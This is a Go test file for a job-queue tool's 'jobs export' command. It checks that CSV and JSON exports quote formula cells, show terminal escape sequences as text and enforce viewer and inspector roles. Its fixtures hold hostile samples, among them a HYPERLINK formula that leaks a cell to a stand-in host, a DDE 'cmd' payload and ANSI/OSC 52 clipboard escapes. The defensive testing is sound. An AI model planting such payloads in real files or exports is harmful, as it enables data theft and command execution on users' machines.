package cli

import (
	"context"
	"encoding/csv"
	"encoding/json"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/sluicehq/sluice/api"
	"github.com/sluicehq/sluice/backend/sqlite"
	"github.com/sluicehq/sluice/engine"
)

// exportMsgs are the errors (and payloads, {"M": msg}) of the export
// test's dead jobs P-00…P-07: cells a spreadsheet would run, and text a
// terminal would act on.
var exportMsgs = []string{
	`=HYPERLINK("http://evil.example/?"&A1,"click")`, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
	"\tTAB first", "\rCR first", "timeout talking to the bank", "invoice " + hostile,
}

// TestJobsExport runs `sluice jobs export` on a store and through the API
// (the streaming route): every job once, in JSON lines or CSV, payloads
// only when asked, formula cells quoted, escape sequences shown rather
// than sent, a query matching nothing, a bad format, a file.
func TestJobsExport(t *testing.T) {
	path := diedWith(t, exportMsgs...)
	s, err := sqlite.Open(context.Background(), path, sqlite.Options{})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { s.Close() })
	e, err := engine.New(s, engine.Config{NoMaintenance: true})
	if err != nil {
		t.Fatal(err)
	}
	hs := httptest.NewServer(api.NewServer(e, api.ServerOptions{Tokens: map[string]api.Identity{
		"viewer-token-0123456789":    {Name: "vera", Role: engine.RoleViewer},
		"inspector-token-0123456789": {Name: "ines", Role: engine.RoleInspector},
	}}))
	t.Cleanup(hs.Close)
	t.Setenv("SLUICE_STORE", "")
	t.Setenv("SLUICE_API", "")
	t.Setenv("SLUICE_TOKEN", "")
	n := len(exportMsgs)

	for _, target := range [][]string{
		{"--store", "sqlite://" + path},
		{"--api", hs.URL, "--token", "inspector-token-0123456789"},
	} {
		for _, tc := range []struct {
			name    string
			args    []string
			code    int
			rows    int  // jobs written
			payload bool // each row has its payload
			csv     bool
			stderr  string
		}{
			{name: "jsonl", rows: n, stderr: "exported 8 job(s)"},
			{name: "jsonl is the default", args: []string{"--format", "jsonl", "-q", "state:archived queue:partner"}, rows: n},
			{name: "csv", args: []string{"--format", "csv"}, rows: n, csv: true},
			{name: "jsonl with payloads", args: []string{"--include-payload"}, rows: n, payload: true},
			{name: "csv with payloads", args: []string{"--format", "csv", "--include-payload"}, rows: n, payload: true, csv: true},
			{name: "one job by payload", args: []string{"-q", `payload.M:"timeout talking to the bank"`, "--include-payload"}, rows: 1, payload: true},
			{name: "matches nothing", args: []string{"-q", "queue:nowhere"}, rows: 0, stderr: "no job matches"},
			{name: "matches nothing, csv", args: []string{"-q", "queue:nowhere", "--format", "csv"}, rows: 0, csv: true},
			{name: "bad format", args: []string{"--format", "xml"}, code: 1, stderr: `--format "xml": want jsonl or csv`},
			{name: "bad query", args: []string{"-q", "state:zombie"}, code: 1, stderr: "zombie"},
		} {
			t.Run(target[0]+"/"+tc.name, func(t *testing.T) {
				code, out, stderr := runCLI(t, "", append(append([]string{"jobs", "export"}, target...), tc.args...)...)
				if code != tc.code || !strings.Contains(stderr, tc.stderr) {
					t.Fatalf("exit %d, want %d; stderr %q, want it to hold %q; stdout:\n%s", code, tc.code, stderr, tc.stderr, out)
				}
				if code != 0 {
					return
				}
				checkExport(t, out, tc.rows, tc.payload, tc.csv)
			})
		}
	}

	t.Run("to a file", func(t *testing.T) {
		file := filepath.Join(t.TempDir(), "dead.csv")
		code, out, stderr := runCLI(t, "", "jobs", "export", "--store", "sqlite://"+path, "--format", "csv", "-o", file)
		if code != 0 || out != "" || !strings.Contains(stderr, "exported 8 job(s) to "+file) {
			t.Fatalf("exit %d, stdout %q, stderr %q", code, out, stderr)
		}
		b, err := os.ReadFile(file)
		if err != nil {
			t.Fatal(err)
		}
		checkExport(t, string(b), n, false, true)
		if st, err := os.Stat(file); err != nil || st.Mode().Perm() != 0o600 {
			t.Errorf("file mode %v (%v), want 0600", st.Mode().Perm(), err)
		}
	})

	t.Run("the output setting names no file", func(t *testing.T) {
		// Elsewhere -o is a setting (table or json): SLUICE_OUTPUT and
		// the config file's output must not name the export's file.
		dir := t.TempDir()
		t.Chdir(dir)
		t.Setenv("SLUICE_OUTPUT", "json")
		code, out, stderr := runCLI(t, "", "jobs", "export", "--store", "sqlite://"+path)
		if code != 0 {
			t.Fatalf("exit %d, stderr %q", code, stderr)
		}
		checkExport(t, out, n, false, false)
		if _, err := os.Stat(filepath.Join(dir, "json")); err == nil {
			t.Fatal("SLUICE_OUTPUT=json wrote the export to a file named json")
		}
	})

	t.Run("viewer asks for payloads", func(t *testing.T) {
		code, out, stderr := runCLI(t, "", "jobs", "export", "--api", hs.URL, "--token", "viewer-token-0123456789", "--include-payload")
		if code == 0 || out != "" || !strings.Contains(stderr, "may not read payloads") {
			t.Fatalf("exit %d, stdout %q, stderr %q", code, out, stderr)
		}
	})
	t.Run("viewer without payloads", func(t *testing.T) {
		code, out, stderr := runCLI(t, "", "jobs", "export", "--api", hs.URL, "--token", "viewer-token-0123456789")
		if code != 0 {
			t.Fatalf("exit %d, stderr %q", code, stderr)
		}
		checkExport(t, out, n, false, false)
	})
}

// checkExport checks an export's text: no byte a terminal would act on,
// rows jobs P-…, each once, each with its payload or without, and CSV
// cells a spreadsheet would not run as formulas.
func checkExport(t *testing.T, out string, rows int, payload, isCSV bool) {
	t.Helper()
	for _, bad := range []string{"\x1b", "\u009b", "\u202e", "\u200b", "\x07", "\x7f"} {
		if strings.Contains(out, bad) {
			t.Fatalf("the export holds %q raw:\n%s", bad, out)
		}
	}
	if strings.Contains(strings.ReplaceAll(out, "\r\n", "\n"), "\r") {
		t.Fatalf("the export holds a bare carriage return:\n%q", out)
	}
	seen := map[string]bool{}
	if !isCSV {
		for _, line := range strings.Split(strings.TrimSuffix(out, "\n"), "\n") {
			if line == "" && rows == 0 {
				continue
			}
			var j engine.Job
			if err := json.Unmarshal([]byte(line), &j); err != nil || !strings.HasPrefix(j.ID, "P-") {
				t.Fatalf("line %q is not a job: %v", line, err)
			}
			if seen[j.ID] {
				t.Errorf("job %s twice", j.ID)
			}
			seen[j.ID] = true
			if got := len(j.Payload) > 0; got != payload {
				t.Errorf("job %s: payload %s, want one: %v", j.ID, j.Payload, payload)
			}
			if i := indexOfJob(j.ID); i >= 0 && j.LastErrorText() != exportMsgs[i] {
				t.Errorf("job %s: error %q, want %q (escapes are JSON's and read back)", j.ID, j.LastErrorText(), exportMsgs[i])
			}
		}
		if len(seen) != rows {
			t.Fatalf("%d jobs, want %d:\n%s", len(seen), rows, out)
		}
		return
	}
	recs, err := csv.NewReader(strings.NewReader(out)).ReadAll()
	if err != nil {
		t.Fatalf("not CSV: %v\n%s", err, out)
	}
	header := strings.Join(recs[0], ",")
	if want := strings.Join(csvColumns, ","); payload {
		want += ",payload"
		if header != want {
			t.Fatalf("header %q, want %q", header, want)
		}
	} else if header != want {
		t.Fatalf("header %q, want %q", header, want)
	}
	if len(recs)-1 != rows {
		t.Fatalf("%d rows, want %d:\n%s", len(recs)-1, rows, out)
	}
	col := len(csvColumns) - 1 // last_error
	for _, r := range recs[1:] {
		id := r[0]
		seen[id] = true
		for _, cell := range r {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("job %s: cell %q would run as a formula", id, cell)
			}
		}
		i := indexOfJob(id)
		if i < 0 {
			t.Fatalf("row %q", r)
		}
		msg := exportMsgs[i]
		want := msg
		if strings.ContainsRune("=+-@\t\r", rune(msg[0])) {
			want = "'" + msg
		}
		want = strings.ReplaceAll(strings.ReplaceAll(want, hostile, hostileShown), "\r", `\u000d`)
		if r[col] != want {
			t.Errorf("job %s: last_error %q, want %q", id, r[col], want)
		}
		if got := len(r) > col+1 && r[col+1] != ""; got != payload {
			t.Errorf("job %s: payload cell %v, want one: %v", id, got, payload)
		}
	}
	if len(seen) != rows {
		t.Fatalf("%d jobs, want %d", len(seen), rows)
	}
}

// hostileShown is hostile as the command line shows it (termtext.Text).
const hostileShown = `INV\u001b[2J\u001b]52;c;aGk=\u0007\u009b31m\u007f\u202eZ\u000dok\u200b`

func indexOfJob(id string) int {
	for i := range exportMsgs {
		if id == "P-0"+string(rune('0'+i)) {
			return i
		}
	}
	return -1
}
